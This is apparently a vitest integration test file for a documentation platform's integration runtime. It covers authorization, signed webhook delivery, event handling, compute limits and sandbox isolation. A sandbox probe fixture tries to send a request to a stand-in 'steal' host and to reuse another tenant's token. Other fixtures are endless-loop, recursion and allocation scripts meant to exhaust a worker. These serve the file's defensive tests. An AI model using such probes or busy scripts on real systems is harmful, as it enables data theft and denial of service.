import { authorizationMatrix, type World } from "../helpers/authz";
import { integrationName, publish } from "../helpers/integrations-factories";
import { publishScript, settledEvent } from "../helpers/integration-events-factories";
import { env } from "cloudflare:test";
import { eq } from "drizzle-orm";
import { describe, expect, it, beforeAll } from "vitest";
import { as, workerFetch } from "../helpers/api";
import { makeOrg, testDb } from "../helpers/factories";
import { eventually } from "../helpers/jobs";
import { unseal } from "../../src/services/integrations/secrets";
import { integrations } from "../../src/db/schema";
import { makeSpace } from "../helpers/spaces-factories";
import { seedThroughCr } from "../helpers/change-requests-factories";
import { guardScript } from "../../src/services/integrations/guard";
import { emptyStorage } from "../helpers/storage";

describe("runtime-authz", () => {
  const OK_SCRIPT = `export default { async fetch() { return new Response("ok") } }`;

  /**
   * A private integration of the world's organization, installed there, whose installation_setup
   * event has settled (its `state` is final).
   */
  async function withEvent(world: World) {
    const { name } = await publishScript(world.owner.token, world.org.id, OK_SCRIPT);
    const { event } = await settledEvent(world.owner.token, name, "installation_setup");
    return { name, eventId: event.id };
  }

  const unknownName = () => integrationName();

  authorizationMatrix("GET /integrations/{name}/events", {
    setup: withEvent,
    request: (_w, s) => ({ method: "GET", path: `/integrations/${s.name}/events` }),
    missing: () => ({ method: "GET", path: `/integrations/${unknownName()}/events` }),
    minimumRole: "admin",
    scope: "integration:read",
    success: 200,
  });

  authorizationMatrix("GET /integrations/{name}/events/{eventId}", {
    setup: withEvent,
    request: (_w, s) => ({ method: "GET", path: `/integrations/${s.name}/events/${s.eventId}` }),
    missing: (_w, s) => ({ method: "GET", path: `/integrations/${s.name}/events/nope` }),
    minimumRole: "admin",
    scope: "integration:read",
    success: 200,
  });

  authorizationMatrix("PUT /integrations/{name}/dev", {
    setup: withEvent,
    request: (_w, s) => ({
      method: "PUT",
      path: `/integrations/${s.name}/dev`,
      body: { tunnelUrl: "https://tunnel.example.com/hook/matrix" },
    }),
    missing: () => ({
      method: "PUT",
      path: `/integrations/${unknownName()}/dev`,
      body: { tunnelUrl: "https://tunnel.example.com/hook/matrix" },
    }),
    minimumRole: "admin",
    scope: "integration:publish",
    success: 204,
    repeatable: true,
  });

  authorizationMatrix("DELETE /integrations/{name}/dev", {
    setup: withEvent,
    request: (_w, s) => ({ method: "DELETE", path: `/integrations/${s.name}/dev` }),
    missing: () => ({ method: "DELETE", path: `/integrations/${unknownName()}/dev` }),
    minimumRole: "admin",
    scope: "integration:publish",
    success: 205,
  });
});

describe("runtime-dev", () => {
  beforeAll(emptyStorage);
  /** The base64 HMAC-SHA256 a Standard Webhooks receiver expects, computed independently. */
  async function expectedSignature(secret: string, id: string, ts: string, body: Uint8Array) {
    const raw = Uint8Array.from(atob(secret.replace(/^whsec_/, "")), (ch) => ch.charCodeAt(0));
    const key = await crypto.subtle.importKey(
      "raw",
      raw,
      { name: "HMAC", hash: "SHA-256" },
      false,
      ["sign"],
    );
    const prefix = new TextEncoder().encode(`${id}.${ts}.`);
    const signed = new Uint8Array([...prefix, ...body]);
    const mac = new Uint8Array(await crypto.subtle.sign("HMAC", key, signed));
    return `v1,${btoa(String.fromCharCode(...mac))}`;
  }

  describe("integration runtime: development mode", () => {
    it("delivers signed events to the tunnel while on, to the script once off", async () => {
      const { org, owner } = await makeOrg();
      const key = crypto.randomUUID();
      const { name, installationId } = await publishScript(owner.token, org.id);
      // The install's event went to the script; now turn dev mode on and reinstall on a new org
      // member's change: use a PATCH of the installation to produce installation_setup again.
      await settledEvent(owner.token, name, "installation_setup");
      const bad = await as(owner.token).put(`/integrations/${name}/dev`, { tunnelUrl: "ftp://x" });
      expect(bad.status).toBe(400);
      expect(bad.body.error.message).toContain("tunnelUrl");
      const on = await as(owner.token).put(`/integrations/${name}/dev`, {
        tunnelUrl: `https://tunnel.example.com/hook/${key}`,
      });
      expect(on.status, on.text).toBe(204);
      const patched = await as(owner.token).patch(
        `/integrations/${name}/installations/${installationId}`,
        { configuration: { color: "red" } },
      );
      expect(patched.status, patched.text).toBe(200);
      const deliveries = await eventually(async () => {
        const res = await fetch(`https://tunnel.example.com/received/${key}`);
        const list = (await res.json()) as { headers: Record<string, string>; body: string }[];
        expect(list.length).toBeGreaterThan(0);
        return list;
      });
      const { headers, body } = deliveries[0]!;
      const bytes = Uint8Array.from(atob(body), (ch) => ch.charCodeAt(0));
      const text = new TextDecoder().decode(bytes);
      expect(headers["content-type"]).toMatch(/^multipart\/form-data; boundary=/);
      expect(text).toContain('name="event"');
      expect(text).toContain('name="environment"');
      const row = (
        await testDb().select().from(integrations).where(eq(integrations.name, name))
      )[0];
      const secret = await unseal(env.SIGNING_SECRET, row!.signingSecretSealed);
      expect(headers["webhook-signature"]).toBe(
        await expectedSignature(
          secret,
          headers["webhook-id"]!,
          headers["webhook-timestamp"]!,
          bytes,
        ),
      );
      const off = await as(owner.token).delete(`/integrations/${name}/dev`);
      expect(off.status).toBe(205);
      const after = (
        await testDb().select().from(integrations).where(eq(integrations.name, name))
      )[0];
      expect(after).toMatchObject({ devTunnelUrl: null, devAllRequests: false });
    }, 60_000);
  });
});

describe("runtime-events", () => {
  beforeAll(emptyStorage);
  describe("integration runtime: the example integration", () => {
    it("runs installation_setup, space_installation_setup and space_content_updated", async () => {
      const { org, owner } = await makeOrg({ title: "Acme Docs" });
      const space = await makeSpace(org.id, owner, { title: "Handbook" });
      const { name, installationId } = await publishScript(owner.token, org.id);

      const setup = await settledEvent(owner.token, name, "installation_setup");
      expect(setup.event.status, setup.event.error).toBe("success");
      expect(setup.event.installationId).toBe(installationId);
      // The script read the organization through context.api with its installation token.
      const messages = setup.logs.map((l) => l.message);
      expect(messages).toContain(`hello, Acme Docs! (installation ${installationId})`);
      expect(setup.logs.every((l) => ["debug", "info", "warn", "error"].includes(l.level))).toBe(
        true,
      );
      expect(setup.logs.every((l) => !Number.isNaN(Date.parse(l.timestamp)))).toBe(true);

      const onSpace = await as(owner.token).post(
        `/integrations/${name}/installations/${installationId}/spaces`,
        { space: space.id },
      );
      expect(onSpace.status, onSpace.text).toBe(201);
      const spaceSetup = await settledEvent(owner.token, name, "space_installation_setup");
      expect(spaceSetup.event.status, spaceSetup.event.error).toBe("success");
      expect(spaceSetup.logs.map((l) => l.message)).toContain("hello, space Handbook!");

      await seedThroughCr(owner, space.id, [
        { operation: "insert_page", title: "A", document: { markdown: "one\n" } },
      ]);
      const updated = await settledEvent(owner.token, name, "space_content_updated");
      expect(updated.event.status, updated.event.error).toBe("success");
      expect(updated.event.payload).toMatchObject({ spaceId: space.id, installationId });
      expect(updated.logs.some((l) => l.level === "info" && l.message.includes(space.id))).toBe(
        true,
      );
    }, 60_000);

    it("answers the installation's public endpoint with the script's response", async () => {
      const { org, owner } = await makeOrg();
      const { name, installationId } = await publishScript(owner.token, org.id);
      const path = `/integrations/${name}/installations/${installationId}/endpoint/hello`;
      // The script's own answer, not an API resource: called without the contract check.
      const res = await workerFetch(`https://quire.test/v1${path}`);
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({
        hello: "world",
        integration: name,
        installation: installationId,
      });
      const fetched = await settledEvent(owner.token, name, "fetch");
      expect(fetched.event.status).toBe("success");
      expect(fetched.logs.map((l) => l.message)).toContain(
        `fetch GET /v1/integrations/${name}/installations/${installationId}/endpoint/hello`,
      );
      const unknown = await workerFetch(
        `https://quire.test/v1/integrations/${name}/installations/nope/endpoint`,
      );
      expect(unknown.status).toBe(404);
      const post = await workerFetch(`https://quire.test/v1${path}`, { method: "POST", body: "x" });
      expect(post.status).toBe(200);
    }, 60_000);
  });
});

describe("runtime-limits", () => {
  beforeAll(emptyStorage);
  /** Scripts that never give the isolate back (issue 34, finding 4). */
  const BUSY = {
    loop: `export default { async fetch() { let x = 0; for (;;) x++; } }`,
    swallowing: `export default { async fetch() {
    for (;;) { try { for (;;) {} } catch (e) { console.log("caught " + e.message); } }
  } }`,
    recursion: `function f(n) { try { return f(n + 1) + f(n + 2); } catch { return f(n) } }
    export default { async fetch() { f(0); return new Response("ok"); } }`,
    allocating: `const keep = [];
    export default { async fetch() { for (;;) keep.push({ n: keep.length }); } }`,
    microtasks: `export default { async fetch() { for (;;) await null; } }`,
    atLoad: `while (true) {}
    export default { async fetch() { return new Response("never"); } }`,
  } as const;

  describe("integration runtime: computing limits under workerd (issue 34, finding 4)", () => {
    it("guards every function and loop body of a script, leaving what it does unchanged", () => {
      const guarded = guardScript(
        "const f = (x) => x * 2; function g(a) { while (a) a--; return [1, 2].map((v) => ({ v })); }",
        "T",
      );
      expect(guarded).toBe(
        "const f = (x) => (T(), x * 2); function g(a) {T(); while (a) {T();a--;} return [1, 2].map((v) => ((T(), { v }))); }",
      );
      const calls: number[] = [];
      const run = new Function("T", `${guarded}; return [f(3), g(2)];`) as (
        t: () => void,
      ) => unknown;
      expect(run(() => void calls.push(1))).toEqual([6, [{ v: 1 }, { v: 2 }]]);
      expect(calls.length).toBe(6);
      expect(() => guardScript("const T = 1;", "T")).toThrow(/reserved name/);
    });

    it("stops scripts that compute without end, and another tenant's work completes", async () => {
      const { org, owner } = await makeOrg();
      const busy = await Promise.all(
        Object.entries(BUSY)
          .filter(([kind]) => kind !== "atLoad")
          .map(async ([kind, script]) => ({
            kind,
            ...(await publishScript(owner.token, org.id, script)),
          })),
      );
      const other = await makeOrg();
      const fine = await publishScript(other.owner.token, other.org.id);
      for (const { kind, name } of busy) {
        const { event } = await settledEvent(owner.token, name, "installation_setup", 60_000);
        expect(event.status, kind).toBe("failed");
        expect(event.error, kind).toContain("computed for more than");
      }
      const ok = await settledEvent(other.owner.token, fine.name, "installation_setup");
      expect(ok.event.status).toBe("success");
      const read = await as(other.owner.token).get(`/orgs/${other.org.id}`);
      expect(read.status).toBe(200);
    }, 120_000);

    it("runs a script whose loading calls many functions, within the limits", async () => {
      const { org, owner } = await makeOrg();
      const heavy = `const table = []; for (let i = 0; i < 100000; i++) table.push(((n) => n * 2)(i));
      export default { async fetch() { return new Response(String(table.length)); } }`;
      const { name } = await publishScript(owner.token, org.id, heavy);
      const { event } = await settledEvent(owner.token, name, "installation_setup");
      expect(event.status, event.error).toBe("success");
    });

    it("refuses to publish a script that computes without end while it loads", async () => {
      const { org, owner } = await makeOrg();
      const res = await publish(owner.token, integrationName(), org.id, { script: BUSY.atLoad });
      expect(res.status, res.text).toBe(400);
      expect(res.body.error.message, res.text).toContain("computed for more than");
    });
  });
});

describe("runtime-sandbox", () => {
  beforeAll(emptyStorage);
  /** A raw script (no runtime library) that logs what each attempted request answered. */
  function probeScript(otherSpaceId: string, otherOrgId: string, stolenToken: string) {
    return `export default { async fetch(req) {
    const form = await req.formData();
    const env = JSON.parse(form.get("environment"));
    const auth = (t) => ({ headers: { authorization: "Bearer " + t } });
    const token = env.apiTokens.installation;
    const base = env.apiEndpoint + "/v1";
    const status = (p) => p.then((r) => r.status, (e) => "error: " + e.message);
    const results = {
      evil: await status(fetch("https://echo.example.com/steal")),
      ownOrg: await status(fetch(base + "/orgs/" + env.installation.target.organization, auth(token))),
      otherSpace: await status(fetch(base + "/spaces/${otherSpaceId}", auth(token))),
      otherOrg: await status(fetch(base + "/orgs/${otherOrgId}", auth(token))),
      stolen: await status(fetch(base + "/orgs/${otherOrgId}", auth("${stolenToken}"))),
    };
    console.log(JSON.stringify(results));
    return new Response("ok");
  } }`;
  }

  describe("integration runtime: the sandbox", () => {
    it("reaches only Quire's API, with only its own installation token", async () => {
      const { org, owner } = await makeOrg();
      const other = await makeOrg();
      const otherSpace = await makeSpace(other.org.id, other.owner);
      const script = probeScript(otherSpace.id, other.org.id, other.owner.token);
      const { name } = await publishScript(owner.token, org.id, script);
      const { event, logs } = await settledEvent(owner.token, name, "installation_setup");
      expect(event.status, event.error).toBe("success");
      const results = JSON.parse(logs.at(-1)!.message);
      expect(results).toEqual({
        evil: 403, // another host: refused by the gateway, never reached
        ownOrg: 200,
        otherSpace: 404, // the installation's token cannot see another organization's space
        otherOrg: 404,
        stolen: 403, // a token the environment did not carry: refused by the gateway
      });
    });

    it("fails an event whose script throws, after its retries, with the last error", async () => {
      const { org, owner } = await makeOrg();
      const script = `export default { async fetch() { console.error("about to fail"); throw new Error("boom"); } }`;
      const { name } = await publishScript(owner.token, org.id, script);
      const { event, logs } = await settledEvent(owner.token, name, "installation_setup");
      expect(event.status).toBe("failed");
      expect(event.error).toContain("boom");
      expect(logs).toEqual([expect.objectContaining({ level: "error", message: "about to fail" })]);
    });

    it("fails an event answered with a non-2xx status", async () => {
      const { org, owner } = await makeOrg();
      const script = `export default { async fetch() { return new Response("nope", { status: 418 }); } }`;
      const { name } = await publishScript(owner.token, org.id, script);
      const { event } = await settledEvent(owner.token, name, "installation_setup");
      expect(event.status).toBe("failed");
      expect(event.error).toContain("418");
    });

    it("fails an event whose script never answers (time limit), and nothing else", async () => {
      const { org, owner } = await makeOrg();
      const hang = `export default { async fetch() { await new Promise((r) => setTimeout(r, 60_000)); return new Response("late"); } }`;
      const { name } = await publishScript(owner.token, org.id, hang);
      const second = await makeOrg();
      const fine = await publishScript(second.owner.token, second.org.id);
      const { event } = await settledEvent(owner.token, name, "installation_setup", 30_000);
      expect(event.status).toBe("failed");
      expect(event.error).toContain("did not answer within 2 s");
      const ok = await settledEvent(second.owner.token, fine.name, "installation_setup");
      expect(ok.event.status).toBe("success");
    }, 40_000);
  });
});
